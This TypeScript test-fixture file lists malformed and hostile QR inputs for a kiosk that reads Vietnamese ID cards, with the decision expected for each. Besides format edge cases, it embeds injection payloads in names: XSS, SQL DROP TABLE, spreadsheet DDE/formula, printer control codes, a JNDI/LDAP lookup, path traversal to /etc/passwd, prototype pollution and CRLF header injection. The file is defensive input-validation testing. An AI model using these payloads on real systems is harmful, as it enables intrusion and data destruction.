export type BadCode = {
  readonly row: string;
  readonly text: string;
  /** What the kiosk may decide; `admit` only for a text that is a well-formed credential in spite of everything. */
  readonly decision: 'retry' | 'admit' | 'admit or retry';
};

/** Stands in every text that has room for it; whoever keeps the text keeps this. */
export const trace = 'DAUVET';

let people = 0;

/** A card of another person each time, with this for a name. */
function card(name: string): string {
  people += 1;
  return `0521991${String(people).padStart(5, '0')}||${name} ${trace}|05041999|Nữ|Quy Nhơn, Bình Định ${trace}|11092021`;
}

/** A personal code, whose name may be anything that is no damage: cards of the state have letters only. */
function personal(name: string): string {
  people += 1;
  return `0521991${String(people).padStart(5, '0')}|${name} ${trace}|1999-04-05|0|${people}|<2<00<0987000000`;
}

function bare(row: string, text: string): BadCode {
  return { row, text, decision: 'retry' };
}

function fine(row: string, text: string): BadCode {
  return { row, text, decision: 'admit' };
}

/** As a text of its own, and as the name on a card and in a personal code. */
function both(row: string, payload: string): readonly BadCode[] {
  return [
    { row: `${row} alone`, text: `${payload}${trace}`, decision: 'retry' },
    { row: `${row} as a name`, text: card(payload), decision: 'admit or retry' },
    { row: `${row} in a personal code`, text: personal(payload), decision: 'admit or retry' },
  ];
}

/** trust.md C7, rows 1–42. */
export const badCodes: readonly BadCode[] = [
  bare('1 empty', ''),
  bare('2 one space', ' '),
  bare('3 only CR and LF', '\r\n\r\n'),
  bare('4 the largest QR code', `${trace}${'A'.repeat(4_290)}`),
  bare('5 10 MB', `${trace}${'9'.repeat(10_000_000)}`),
  bare('6 NUL in the middle', card('Lê').replace('|05041999', '\0|05041999')),
  bare('7 only separators', '||||||'),
  bare('8 six fields', card('Lê').replace(/\|11092021$/, '')),
  fine('8 eight fields', `${card('Lê')}|${trace}`),
  bare('9 11 digits', `0521990000${trace.length % 10}`),
  bare('9 13 digits', '0521990000271'),
  bare('10 full-width digits', '０５２１９９００００２７'),
  bare('11 Arabic-Indic digits', '٠٥٢١٩٩٠٠٠٠٢٧'),
  fine('12 a number and a line end', '052199200001\n'),
  bare('13 letters after digits', `079300012345${trace}`),
  bare('14 hexadecimal', '0x12'),
  bare('14 an exponent', '1e11'),
  bare('15 31 February', card('Lê').replace('05041999', '31022000')),
  bare('15 zeros', card('Lê').replace('05041999', '00000000')),
  bare('15 29 February 2023', card('Lê').replace('11092021', '29022023')),
  bare('15 year 1', card('Lê').replace('05041999', '05040001')),
  bare('15 year 9999', card('Lê').replace('05041999', '05049999')),
  bare('15 YYYYMMDD', card('Lê').replace('05041999', '19990405')),
  bare('16 birth to come', card('Lê').replace('05041999', '05042099')),
  bare('17 issued before birth', card('Lê').replace('11092021', '11091998')),
  fine('18 cut UTF-8', card('L\ufffd')),
  fine('18 TCVN3 bytes as Latin-1', card('Vâ ThÞ Mü LÖ')),
  bare('18 UTF-16 bytes as Latin-1', Array.from(`ÿþ${trace}`, (char) => `${char}\0`).join('')),
  fine('19 NFD', card('Nguyễn Ưỡng').normalize('NFD')),
  bare('20 a lone surrogate', `\ud800${trace}`),
  fine('20 a lone surrogate in a name', card('Lê \udc00')),
  bare('21 two codes glued', card('Lê') + card('Lê')),
  bare('21 the first half', card('Lê').slice(0, 30)),
  bare('21 the second half', card('Lê').slice(20)),
  fine('22 AIM prefix', `]Q3${card('Lê')}`),
  bare('22 GS1 separator', `01095060001343\x1d10${trace}`),
  fine('23 old CMND', '212000019'),
  bare('23 web address', `https://example.vn/${trace}`),
  bare('23 Wi-Fi', `WIFI:T:WPA;S:${trace};P:y;;`),
  bare('23 vCard', `BEGIN:VCARD\nFN:${trace}\nEND:VCARD`),
  bare('23 telephone', `tel:+84900000000${trace}`),
  bare('23 payment', `00020101021238570010A000000727${trace}`),
  ...both('24 an image with a handler', '<img src=x onerror=alert(1)>'),
  ...both('25 a script', '<script>alert(1)</script></title>'),
  ...both('25 a javascript URL', 'javascript:alert(1)'),
  ...both('26 SVG', '<svg onload=alert(1)><math>'),
  ...both('27 SQL', `' OR 1=1-- "; DROP TABLE events;--`),
  ...both('28 HYPERLINK', '=HYPERLINK("http://x/?"&A1) B'),
  ...both('29 DDE', "=cmd|'/c calc'!A0 B"),
  ...['+', '-', '@', '\t=', '\r=', '\n='].flatMap((sign) =>
    both(`30 ${JSON.stringify(sign)} in front`, `${sign}1+1 B`),
  ),
  ...[' ', '\u00a0', '\u200b', '\u3000', '\ufeff', '\u2060'].flatMap((space) =>
    both(`31 U+${space.charCodeAt(0).toString(16)} before a sign`, `${space}=1+1 B`),
  ),
  ...['＝', '＋', '－', '＠'].flatMap((sign) => both(`32 full-width ${sign}`, `${sign}1+1 B`)),
  ...both('33 a formula on the second line', 'ok\n=1+1 B'),
  ...both('34 quotes and separators', '","=1+1;" sep=;'),
  ...both('35 ESC @', '\x1b@ B'),
  ...both('35 ESC p', '\x1bp\x00\x19\xfa B'),
  ...both('35 GS V', '\x1dV\x00 B'),
  ...both('35 GS ( A', '\x1d(A\x02\x00\x00\x02 B'),
  ...both('35 DLE DC4', '\x10\x14\x02\x01\x08 B'),
  ...both('35 GS v 0', '\x1dv0\x00\xff\xff\xff\xff B'),
  ...both('35 FS q', '\x1cq\x01 B'),
  ...both('35 ESC =', '\x1b=\x00 B'),
  ...both('36 ANSI', '\x1b]0;x\x07\x1b[2J B'),
  ...both('37 templates', '\u0024{jndi:ldap://x} {{7*7}} %n%s'),
  ...both('38 a path', '../../etc/passwd C:\\con \\\\host\\share'),
  ...both('39 __proto__', '__proto__ constructor'),
  ...both('39 JSON with __proto__', '{"__proto__":{"kind":"admit"}} B'),
  ...both('40 CRLF', 'a\r\nSet-Cookie: x=1\r\n B'),
  ...both('41 U+2028', 'a\u2028=1 b\u2029=1 B'),
  ...both('42 a separator', 'Lê|Yến B'),
  ...both('43 a reversal', '\u202etimda\u202c B'),
  ...both('43 isolates', '\u2066a\u2069 \u2067B\u2069'),
];
